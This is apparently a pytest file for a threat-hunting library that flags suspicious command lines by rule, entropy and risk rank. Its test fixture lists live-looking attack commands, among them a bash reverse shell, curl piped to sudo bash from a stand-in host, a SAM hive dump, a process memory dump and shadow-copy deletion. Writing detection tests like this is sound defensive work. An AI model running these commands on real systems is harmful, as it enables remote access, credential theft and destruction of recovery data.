"""Command lines: what is told of them."""

from __future__ import annotations

import pandas as pd
import pytest

from huntlens.analyze.command_line import RULES, judge, risk
from huntlens.errors import DataError

JUDGED = {
    "powershell.exe -nop -w hidden -enc aQBlAHgAIAAkAGEAYgBjAGQAZQBmAA==": "encoded hidden no-profile run-text",
    "certutil.exe -urlcache -split -f http://a.example/x": "certutil",
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\x.dmp full": "memory-dump",
    r"rundll32.exe C:\Users\a\AppData\Local\Temp\a.dll,Start": "rundll32-folder",
    r"reg save HKLM\SAM c:\x": "hives",
    "vssadmin delete shadows /all /quiet": "shadow-copies",
    "wevtutil cl Security": "clear-logs",
    'wmic /node:fs01 process call create "cmd /c hostname"': "remote-wmi",
    r"7z.exe a -p out.7z D:\Shares": "archive",
    "net user bob Passw0rd /add": "user-added",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": "reverse-shell",
    "curl -s http://a.example/x.sh | sudo bash": "pipe-to-shell",
    r'"C:\Program Files\App\app.exe" --type=renderer': "",
    "notepad.exe plan.txt": "",
    "svchost.exe -k netsvcs -p -s Schedule": "",
}


@pytest.mark.parametrize(("text", "names"), JUDGED.items())
def test_rules(text: str, names: str) -> None:
    found = [rule.name.replace(" window", "").replace(" ", "-") for rule in judge(text).rules]
    assert found == names.split()


def test_measures() -> None:
    found = judge(r"C:\Windows\System32\certutil.exe")
    assert found.lolbin == "certutil"
    assert 3 < found.entropy < 5
    assert judge("").entropy == 0
    assert judge("%^&!").symbols == 1


def test_the_worst_first_with_index_and_missing_values() -> None:
    data = pd.DataFrame({"c": ["notepad", None, "whoami /all", "vssadmin delete shadows"]}, index=list("wxyz"))
    assert risk(data, "c")["row"].tolist() == ["z", "y"]
    assert risk(data, "c", least=5)["row"].tolist() == ["z"]


def test_unknown_column() -> None:
    with pytest.raises(DataError, match="no column 'x'; it has: c"):
        risk(pd.DataFrame({"c": [""]}), "x")


def test_every_rule_is_explained() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert all(rule.reason and rule.technique.startswith("T1") and 1 <= rule.score <= 5 for rule in RULES)
